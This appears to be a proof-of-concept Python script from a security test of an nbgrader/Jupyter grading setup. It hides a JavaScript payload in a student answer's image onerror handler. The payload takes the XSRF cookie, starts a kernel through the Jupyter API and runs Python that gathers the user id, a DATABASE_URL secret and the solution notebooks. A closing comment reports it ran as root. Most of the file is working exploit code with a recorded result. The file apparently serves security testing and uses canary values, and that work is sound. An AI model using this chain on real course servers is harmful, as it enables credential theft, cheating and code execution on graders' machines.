"""a07 (root, ps1_memory): a06 taken to code execution. The written answer's JavaScript, run by the TA's formgrader
page, starts a kernel through /api/kernels and sends it an execute_request over the kernel's websocket: Python runs
as the TA (root, unsandboxed: `make lab` kernels are ordinary ipykernels), reads the TA's environment (a
DATABASE_URL canary set for the Jupyter server, as a TA with the gradebook's password in the environment would have)
and `source/`'s solution, and writes them to a file. (Uses the course graded by a06: run a06 first.)
RESULT: see the bottom of this file and a07.out.txt."""
import os, sys, json
HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "round5"))
from monitor import ac
import nbformat

OUT = "/tmp/r9xss/took.txt"
PY = ("import os,subprocess,glob;s='id: '+subprocess.run(['id'],capture_output=True,text=True).stdout+"
      "'DATABASE_URL='+os.environ.get('DATABASE_URL','')+chr(10)+'solutions: '+repr(glob.glob(os.getcwd()+'/source/*/*.ipynb'))"
      "+chr(10)+'solution text: '+repr(open(glob.glob(os.getcwd()+'/source/*/*.ipynb')[0]).read()[:200]);"
      "open('" + OUT + "','w').write(s)")
JS = ("(async()=>{const c=document.cookie.split('; ').find(s=>s.startsWith('_xsrf='));"
      "const t=c?decodeURIComponent(c.slice(6)):'';const h={'Content-Type':'application/json','X-XSRFToken':t};"
      "const k=await (await fetch('/api/kernels',{method:'POST',headers:h,body:'{}'})).json();"
      "const ws=new WebSocket('ws://'+location.host+'/api/kernels/'+k.id+'/channels');"
      "ws.onopen=()=>{ws.send(JSON.stringify({header:{msg_id:'m1',username:'ta',session:'s1',msg_type:'execute_request',"
      "version:'5.3',date:''},parent_header:{},metadata:{},content:{code:`" + PY + "`,silent:false,store_history:false,"
      "user_expressions:{},allow_stdin:false,stop_on_error:true},channel:'shell'}));document.title='sent';};})()")
ANSWER = "My answer: ...\n\n" + f'<img src="data:," style="display:none" onerror="{JS}">\n'

if __name__ == "__main__":
    if "--fresh" in sys.argv:       # end to end: the payload in the hand-in, graded by grader.grade as root
        from monitor import grade_watched
        dest = ac.make_course("r9-a07", {"xss": ac.notebook({"written_ddp_fit": ANSWER})})
        grade_watched(dest)
    else:                           # reuse a06's graded course, its answer swapped for this payload
        dest = "/tmp/attack-course-r9-a06"
        path = f"{dest}/autograded/xss/ps1_memory/ps1_memory.ipynb"
        nb = nbformat.read(path, 4)
        for c in nb.cells:
            if c.metadata.get("nbgrader", {}).get("grade_id") == "written_ddp_fit":
                c.source = ANSWER
        nbformat.write(nb, path)
    os.environ["DATABASE_URL"] = "postgresql://ta:CANARY-PASSWORD-r9a07@localhost/x"
    sys.path.insert(0, ac.ROOT)
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{dest}/gradebook.db") as gb:
        sub_id = gb.find_submission_notebook("ps1_memory", "ps1_memory", "xss").id
    from tests import browser
    if os.path.exists(OUT):
        os.remove(OUT)
    with browser.jupyter_lab(dest, "/tmp/r9xss") as (url, token):
        with browser.chromium("/tmp/r9xss") as page:
            page.goto(f"{url}/lab?token={token}")
            page.wait_for_timeout(3000)
            page.goto(f"{url}/formgrader/submissions/{sub_id}/")
            page.wait_for_timeout(12000)
            print("page title:", page.title())
    print(OUT, "exists:", os.path.exists(OUT))
    if os.path.exists(OUT):
        print(open(OUT).read())
# RESULT (root, 13:11 UTC a07.out.txt reusing a06's course; 13:14 UTC a07-fresh.out.txt end to end: the payload in the
# hand-in, graded by grader.grade as root, then the TA's formgrader page): BROKEN. The TA opening the submission in
# Formgrader ran the hand-in's JavaScript, which started a kernel on the TA's Jupyter server and ran Python there:
#   id: uid=0(root) gid=0(root) groups=0(root)
#   DATABASE_URL=postgresql://ta:CANARY-PASSWORD-r9a07@localhost/x
#   solutions: ['/tmp/attack-course-r9-a07/source/ps1_memory/ps1_memory.ipynb'] (and its text)
# i.e. every protected thing at once: the TA's environment and password, the solutions, write access to the
# gradebook, autograders/ and the host, as root. The sandbox is not involved: the code runs in the TA's own server.
